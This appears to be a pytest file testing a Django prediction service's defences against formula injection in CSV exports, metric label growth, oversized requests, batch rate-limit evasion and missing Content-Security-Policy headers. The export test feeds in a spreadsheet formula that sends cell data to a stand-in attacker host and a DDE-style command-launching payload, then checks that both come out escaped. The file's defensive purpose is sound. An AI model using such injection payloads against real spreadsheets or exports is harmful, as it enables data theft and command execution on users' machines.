"""What a hostile client costs us: formulas smuggled into exports, random names growing /metrics, small requests
with huge answers or rows, batches slipping past the rate limit; and the Content-Security-Policy on result pages."""

from __future__ import annotations

import csv
import io
import json
import threading
import uuid

import pytest
from django.core.cache import caches
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import RequestFactory
from prometheus_client.parser import text_string_to_metric_families

from predictions.http import throttling
from predictions.models import Prediction
from predictions.pages import links
from tests.conftest import IRIS_VIRGINICA

pytestmark = pytest.mark.django_db

REST, V2, MLFLOW = "/api/models/{}/predict", "/v2/models/{}/infer", "/mlflow/{}/invocations"
V2_BODY = {"inputs": [{"name": name, "shape": [1], "datatype": "FP64", "data": [value]}
                      for name, value in IRIS_VIRGINICA.items()]}


# --- 3. formulas in the admin's export ----------------------------------------------------------------------------
def test_the_admin_export_writes_client_controlled_cells_as_text(client, staff_client):
    client.post("/predict", '=HYPERLINK("http://evil.example/?"&A1,"Click")', content_type="application/json")
    row = Prediction.objects.get()
    assert isinstance(row.inputs, str) and row.inputs.startswith("=HYPERLINK")  # the raw body, as recorded
    Prediction.objects.filter(pk=row.pk).update(feedback_note="@SUM(1+1)*cmd|' /C calc'!A0")
    response = staff_client.post("/admin/predictions/prediction/", {"action": "export_csv",
                                                                     "_selected_action": [row.pk]})
    exported = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert exported[0]["inputs"].startswith("'=HYPERLINK")
    assert exported[0]["feedback_note"].startswith("'@SUM")


# --- 4. bounded metric labels ---------------------------------------------------------------------------------------
def series(client) -> set[tuple[str, frozenset]]:
    text = client.get("/metrics").content.decode()
    return {(sample.name, frozenset(sample.labels.items()))
            for family in text_string_to_metric_families(text) if family.name.startswith("mlsite_prediction")
            for sample in family.samples}


@pytest.mark.parametrize(("path", "body"), [
    (REST, IRIS_VIRGINICA), (V2, V2_BODY), (MLFLOW, {"dataframe_records": [IRIS_VIRGINICA]}),
    (REST.replace("/predict", "/predict?version={}").format("iris", "{}"), IRIS_VIRGINICA),
    ("/v2/models/iris/versions/{}/infer", V2_BODY),
], ids=["rest", "v2", "mlflow", "rest-version", "v2-version"])
def test_random_model_names_and_versions_add_at_most_one_series(client, settings, path, body):
    settings.PREDICT_THROTTLE_RATE = None
    before = series(client)
    for _ in range(100):
        response = client.post(path.format(uuid.uuid4().hex), json.dumps(body), content_type="application/json")
        assert response.status_code in (400, 404)
    added = series(client) - before
    assert len({labels for _, labels in added}) <= 1, added  # one label set: model/version "unknown"
    assert Prediction.objects.count() == 100  # every one of them was still recorded, under its real name


# --- 5. amplification ------------------------------------------------------------------------------------------------
HUGE = {f"k{i}": 1 for i in range(150_000)}  # about 2 MB


@pytest.mark.parametrize(("path", "body"), [
    (REST.format("iris"), HUGE),
    (MLFLOW.format("iris"), {"dataframe_records": [HUGE]}),
    (V2.format("iris"), {"inputs": [{"name": f"k{i}", "shape": [1], "datatype": "FP64", "data": [1]}
                                    for i in range(15_000)]}),
    (REST.format("iris"), [{**IRIS_VIRGINICA, "unknown": 1}] * 1000),
], ids=["rest", "mlflow", "v2", "rest-batch"])
def test_no_answer_or_row_is_much_larger_than_the_request(client, settings, path, body):
    settings.PREDICT_THROTTLE_RATE = None
    payload = json.dumps(body)
    response = client.post(path, payload, content_type="application/json")
    assert response.status_code == 400
    assert len(response.content) <= max(16_384, len(payload) // 4), len(response.content)
    for row in Prediction.objects.all()[:5]:
        assert len(json.dumps(row.inputs)) + len(json.dumps(row.error)) <= 16_384


def test_a_capped_input_is_marked_truncated_and_the_answer_counts_what_it_does_not_list(client, settings):
    settings.PREDICT_THROTTLE_RATE = None
    answer = client.post(REST.format("iris"), json.dumps(HUGE), content_type="application/json").json()["error"]
    unknown = [name for name in answer["fields"] if name.startswith("k")]
    assert len(unknown) == 5 and "150,000 unknown fields in all" in answer["fields"]["non_field_errors"][0]
    stored = Prediction.objects.get().inputs
    assert stored.get("…") == "149950 more keys" or stored.get("truncated") is True


# --- 6. the rate limit counts rows ---------------------------------------------------------------------------------
def upload(client, rows: int):
    values = ",".join(str(v) for v in IRIS_VIRGINICA.values())
    content = (",".join(IRIS_VIRGINICA) + "\n" + (values + "\n") * rows).encode()
    return client.post("/models/iris/batch/", {"file": SimpleUploadedFile("rows.csv", content, "text/csv")})


@pytest.mark.parametrize("channel", ["rest", "v2", "mlflow", "csv"])
def test_a_batch_costs_its_rows_not_one_call(client, settings, channel):
    settings.PREDICT_THROTTLE_RATE = "5/minute"
    if channel == "rest":
        first = client.post(REST.format("iris"), json.dumps([IRIS_VIRGINICA] * 5), content_type="application/json")
    elif channel == "v2":
        body = {"inputs": [{**t, "shape": [5], "data": t["data"] * 5} for t in V2_BODY["inputs"]]}
        first = client.post(V2.format("iris"), json.dumps(body), content_type="application/json")
    elif channel == "mlflow":
        first = client.post(MLFLOW.format("iris"), json.dumps({"dataframe_records": [IRIS_VIRGINICA] * 5}),
                            content_type="application/json")
    else:
        first = upload(client, 5)
    assert first.status_code in (200, 201, 302), first.content[:300]
    refused = client.post("/predict", json.dumps(list(IRIS_VIRGINICA.values())), content_type="application/json")
    # The budget of 5 rows is spent; one row is paid back every 12 s.
    assert refused.status_code == 429 and 1 <= int(refused["Retry-After"]) <= 12


def test_a_batch_larger_than_the_budget_is_served_once_then_the_client_waits(client, settings):
    settings.PREDICT_THROTTLE_RATE = "10/minute"
    big = client.post(REST.format("iris"), json.dumps([IRIS_VIRGINICA] * 30), content_type="application/json")
    assert big.status_code == 201
    again = client.post(REST.format("iris"), json.dumps(IRIS_VIRGINICA), content_type="application/json")
    assert again.status_code == 429 and int(again["Retry-After"]) > 60  # 30 rows at 10 a minute: in debt


@pytest.fixture
def redis_cache(settings):
    """The machine's real Redis as the default cache (Django resets its cache handler when CACHES changes), under
    a key prefix of this test's own."""
    settings.CACHES = {"default": {"BACKEND": "django.core.cache.backends.redis.RedisCache",
                                   "LOCATION": "redis://127.0.0.1:6379/2", "KEY_PREFIX": uuid.uuid4().hex}}
    return caches["default"]


def test_with_redis_concurrent_calls_get_exactly_the_budget(redis_cache, settings):
    """Every worker and replica shares one count: concurrent admissions are decided atomically by Redis."""
    settings.PREDICT_THROTTLE_RATE = "10/minute"
    requests = [RequestFactory().post("/predict", REMOTE_ADDR="10.9.9.9") for _ in range(40)]
    admitted, lock, start = [], threading.Lock(), threading.Barrier(40)

    def call(request) -> None:
        start.wait()
        wait = throttling.admit(request)
        with lock:
            admitted.append(wait is None)

    threads = [threading.Thread(target=call, args=(request,)) for request in requests]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sum(admitted) == 10


def test_with_redis_a_batch_charges_its_rows_across_requests(redis_cache, settings):
    settings.PREDICT_THROTTLE_RATE = "5/minute"
    first = RequestFactory().post("/", REMOTE_ADDR="10.9.9.8")
    assert throttling.admit(first) is None
    throttling.charge(first, 4)
    assert 10 <= throttling.admit(RequestFactory().post("/", REMOTE_ADDR="10.9.9.8")) <= 12


def test_without_redis_the_rate_limit_fails_open_and_says_so(settings, caplog):
    settings.CACHES = {"default": {"BACKEND": "django.core.cache.backends.redis.RedisCache",
                                   "LOCATION": "redis://127.0.0.1:1/0"}}  # nothing listens there
    settings.PREDICT_THROTTLE_RATE = "1/minute"
    assert throttling.admit(RequestFactory().post("/", REMOTE_ADDR="10.9.9.7")) is None
    assert throttling.admit(RequestFactory().post("/", REMOTE_ADDR="10.9.9.7")) is None
    assert "rate limit not applied, Redis unavailable" in caplog.text


# --- 10. the Content-Security-Policy on result pages -----------------------------------------------------------------
def test_result_and_batch_pages_carry_the_content_security_policy(client):
    client.post("/models/iris/", {k: str(v) for k, v in IRIS_VIRGINICA.items()})
    page = client.get(links.prediction_url(Prediction.objects.get().request_id))
    assert page.status_code == 200 and "script-src 'self'" in page["Content-Security-Policy"]
    response = upload(client, 2)
    assert "script-src 'self'" in client.get(response["Location"])["Content-Security-Policy"]
    assert "Content-Security-Policy" not in client.post(
        "/predict", json.dumps(list(IRIS_VIRGINICA.values())), content_type="application/json")
    docs = client.get("/api/docs/")
    assert "script-src 'self'" in docs["Content-Security-Policy"]  # a page under /api/
